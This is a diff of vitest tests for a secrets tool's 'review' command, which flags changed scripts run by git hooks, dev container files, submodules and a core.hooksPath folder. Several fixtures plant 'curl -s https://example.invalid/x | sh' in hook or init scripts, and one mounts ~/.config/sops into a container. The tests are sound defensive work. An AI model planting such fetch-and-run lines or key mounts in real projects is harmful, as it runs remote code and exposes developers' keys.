@@ -5,6 +5,9 @@
  * A member's next commit runs it with their age key in reach: weakened-rule at the script, for a
  * range of commits and for the working tree, and for a project in a subfolder (hooks at the top).
  */
+import { execFileSync } from "node:child_process";
+import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { describe, expect, it, vi } from "vitest";
 import { aliceProject, createSandbox, infraProject, sandboxesCleanedAfterEach } from "./helpers/cli.js";
@@ -90,5 +93,73 @@ describe("review: the scripts the git hook managers' files run", () => {
     expect(problems.map((p) => p.file).sort()).toEqual([".githooks/pre-commit.d/20-new", "package.json", "tools/lib/guard", "web/check"]);
     expect(problems.find((p) => p.file === "tools/lib/guard")?.message).toMatch(/computed at run time that ends in tools\/lib\/guard/);
     expect(problems.find((p) => p.file === "package.json")?.message).toMatch(/"lint-staged" configuration/);
+  });
+});
+
+describe("review: the files a dev container file names", () => {
+  it("a change to initializeCommand's script or to the compose file (a volume binding ~/.config/sops), the devcontainer.json unchanged, is weakened-rule at each, naming the dev container file", async () => {
+    const { s } = await aliceProject(sandboxes, "production", [["stripe_api_key", "production", "sk_test_hooks_0009"]]);
+    s.write(".devcontainer/devcontainer.json", JSON.stringify({ initializeCommand: ".devcontainer/init.sh", dockerComposeFile: "compose.yml", service: "app" }));
+    s.write(".devcontainer/init.sh", "echo init\n");
+    s.write(".devcontainer/compose.yml", "services:\n  app:\n    image: debian\n    volumes:\n      - ..:/workspace\n");
+    s.commit("dev container");
+    s.write(".devcontainer/init.sh", "echo init\ncurl -s https://example.invalid/x | sh\n");
+    s.write(".devcontainer/compose.yml", "services:\n  app:\n    image: debian\n    volumes:\n      - ..:/workspace\n      - ~/.config/sops:/keys\n");
+    s.commit("init");
+    const r = await s.run(["review", "HEAD~1", "HEAD", "--json"]);
+    expect(r.code, r.stderr).toBe(1);
+    const problems = (JSON.parse(r.stdout) as { problems: Problem[] }).problems.map((p) => [p.kind, p.file, /and (\S+) \(a dev container file\) names it/.exec(p.message)?.[1]]);
+    expect(problems.sort()).toEqual([
+      ["weakened-rule", ".devcontainer/compose.yml", ".devcontainer/devcontainer.json"],
+      ["weakened-rule", ".devcontainer/init.sh", ".devcontainer/devcontainer.json"],
+    ]);
+  });
+});
+
+describe("review: a script a hook runs from inside a git submodule", () => {
+  it("a hook running vendor/tools/check.sh of a submodule: moving the submodule to another commit is weakened-rule at that script (its text is not in the repository); the same commit is clean", async () => {
+    const { s } = await aliceProject(sandboxes, "production", [["stripe_api_key", "production", "sk_test_hooks_0010"]]);
+    const sub = mkdtempSync(join(tmpdir(), "stellar-sub-"));
+    const g = (cwd: string, args: string[]) => execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@example.invalid", "-c", "protocol.file.allow=always", ...args], { cwd, encoding: "utf8" }).trim();
+    try {
+      g(sub, ["init", "-q", "-b", "main"]);
+      writeFileSync(join(sub, "check.sh"), "echo check\n");
+      g(sub, ["add", "-A"]);
+      g(sub, ["commit", "-q", "-m", "one"]);
+      writeFileSync(join(sub, "check.sh"), "curl -s https://example.invalid/x | sh\n");
+      g(sub, ["commit", "-q", "-am", "two"]);
+      const [one, two] = [g(sub, ["rev-parse", "HEAD~1"]), g(sub, ["rev-parse", "HEAD"])];
+      g(s.repo, ["submodule", "add", "-q", sub, "vendor/tools"]);
+      g(join(s.repo, "vendor/tools"), ["checkout", "-q", one]);
+      s.write(".husky/pre-commit", "stellar-secrets pre-commit\nvendor/tools/check.sh\n");
+      s.commit("hook and submodule");
+      s.write("docs/readme.md", "x\n");
+      s.commit("docs");
+      expect((await s.run(["review", "HEAD~1", "HEAD"])).code).toBe(0);
+      g(join(s.repo, "vendor/tools"), ["checkout", "-q", two]);
+      s.commit("bump");
+      const r = await s.run(["review", "HEAD~1", "HEAD", "--json"]);
+      expect(r.code, r.stderr).toBe(1);
+      expect((JSON.parse(r.stdout) as { problems: Problem[] }).problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", "vendor/tools/check.sh"]]);
+    } finally {
+      rmSync(sub, { recursive: true, force: true });
+    }
+  });
+});
+
+describe("review: the hooks of a folder the repository sets as git's core.hooksPath", () => {
+  it("package.json's prepare sets core.hooksPath .githooks: a change to .githooks/pre-commit is weakened-rule; a docs change is clean", async () => {
+    const { s } = await aliceProject(sandboxes, "production", [["stripe_api_key", "production", "sk_test_hooks_0011"]]);
+    s.write("package.json", JSON.stringify({ scripts: { prepare: "git config core.hooksPath .githooks" } }, null, 2));
+    s.write(".githooks/pre-commit", "#!/bin/sh\nstellar-secrets pre-commit\n");
+    s.commit("hooks");
+    s.write("docs/readme.md", "x\n");
+    s.commit("docs");
+    expect((await s.run(["review", "HEAD~1", "HEAD"])).code).toBe(0);
+    s.write(".githooks/pre-commit", "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n");
+    s.commit("hook");
+    const r = await s.run(["review", "HEAD~1", "HEAD", "--json"]);
+    expect(r.code, r.stderr).toBe(1);
+    expect((JSON.parse(r.stdout) as { problems: Problem[] }).problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".githooks/pre-commit"]]);
   });
 });
